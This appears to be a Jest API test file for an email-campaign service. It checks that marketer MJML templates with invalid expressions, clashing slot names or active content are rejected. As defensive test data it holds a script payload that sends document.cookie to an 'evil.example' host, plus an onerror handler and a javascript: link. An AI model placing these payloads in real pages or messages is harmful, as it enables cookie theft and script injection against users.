import { loadDemo } from '../../apps/cli/src/demo/demo-manifest';
import { authorDemoCampaign } from '../factories/demo-campaign.factory';
import { TenantFactory, TestVendor } from '../factories/tenant.factory';
import { ApiHarness, startApi } from '../support/api-harness';

/** What a marketer's email template may hold: exactly what the renderer renders, and nothing active. */
describe('email template checks (API)', () => {
  let api: ApiHarness;
  let vendor: TestVendor;
  let campaignId: string;
  const demo = loadDemo();
  const welcomeMjml = demo.readText(demo.manifest.emails[0].file);
  const as = (token: string) => ({ Authorization: `Bearer ${token}` });
  const lineOf = (mjml: string, needle: string) => mjml.split('\n').findIndex((l) => l.includes(needle)) + 1;

  beforeAll(async () => {
    api = await startApi();
    vendor = await new TenantFactory(api).vendor();
    campaignId = (await authorDemoCampaign(api, vendor.marketerToken, { publish: false })).campaignId;
  }, 60_000);
  afterAll(() => api.close());

  const addEmail = (mjml: string, subject = 'Hello') =>
    api
      .http()
      .post(`/campaigns/${campaignId}/assets/email`)
      .set(as(vendor.marketerToken))
      .send({ name: 'x', subject, preheader: 'p', mjml });

  it.each([
    ['a slash path', '{{prospect/email}}', 'Write {{prospect.email}} instead of {{prospect/email}}'],
    ['whitespace control', '{{~prospect.email~}}', 'Whitespace control'],
  ])(
    'answers 422 for %s, which would pass and then fail every preview and send',
    async (_what, expression, message) => {
      const mjml = welcomeMjml.replace('Hi {{prospect.first_name}}', `Hi ${expression}`);
      const res = await addEmail(mjml).expect(422);
      expect(res.body.errors).toEqual([
        { path: 'assets[6].mjml', line: lineOf(mjml, expression), message: expect.stringContaining(message) },
      ]);
      const subject = await addEmail(welcomeMjml, `Hi ${expression}`).expect(422);
      expect(subject.body.errors).toEqual([
        expect.objectContaining({ path: 'assets[6].subject', message: expect.stringContaining(message) }),
      ]);
    },
    60_000,
  );

  it('keeps slot names clear of the colours derived from colour slots', async () => {
    const slots = [
      ...demo.manifest.slots,
      { name: 'primary_color_text', type: 'text', required: false, fallback: 'x' },
    ];
    const res = await api
      .http()
      .put(`/campaigns/${campaignId}/slots`)
      .set(as(vendor.marketerToken))
      .send({ slots })
      .expect(422);
    expect(res.body.errors).toContainEqual({
      path: `slots[${slots.length - 1}].name`,
      message: expect.stringContaining('derived from the colour slot primary_color'),
    });
  }, 60_000);

  it.each([
    [
      'a script',
      '<mj-raw><script>fetch("https://evil.example/?c=" + document.cookie)</script></mj-raw>',
      '<script> is not allowed',
    ],
    [
      'an event handler',
      '<mj-text><img src="https://acme-backup.example/x.png" onerror="alert(1)" /></mj-text>',
      'onerror',
    ],
    ['a javascript: link', '<mj-text><a href="javascript:alert(document.domain)">Win</a></mj-text>', 'javascript:'],
  ])(
    'answers 422 naming %s and its line, and saves nothing',
    async (_what, markup, message) => {
      const before = await api.http().get(`/campaigns/${campaignId}`).set(as(vendor.marketerToken)).expect(200);
      const mjml = welcomeMjml.replace(
        '<mj-section padding="16px 24px">',
        `<mj-section>\n      <mj-column>\n        ${markup}\n      </mj-column>\n    </mj-section>\n    <mj-section padding="16px 24px">`,
      );
      const res = await addEmail(mjml).expect(422);
      expect(res.body.errors).toContainEqual({
        path: 'assets[6].mjml',
        line: lineOf(mjml, markup),
        message: expect.stringContaining(message),
      });
      const after = await api.http().get(`/campaigns/${campaignId}`).set(as(vendor.marketerToken)).expect(200);
      expect(after.body.revision).toBe(before.body.revision);
    },
    60_000,
  );
});
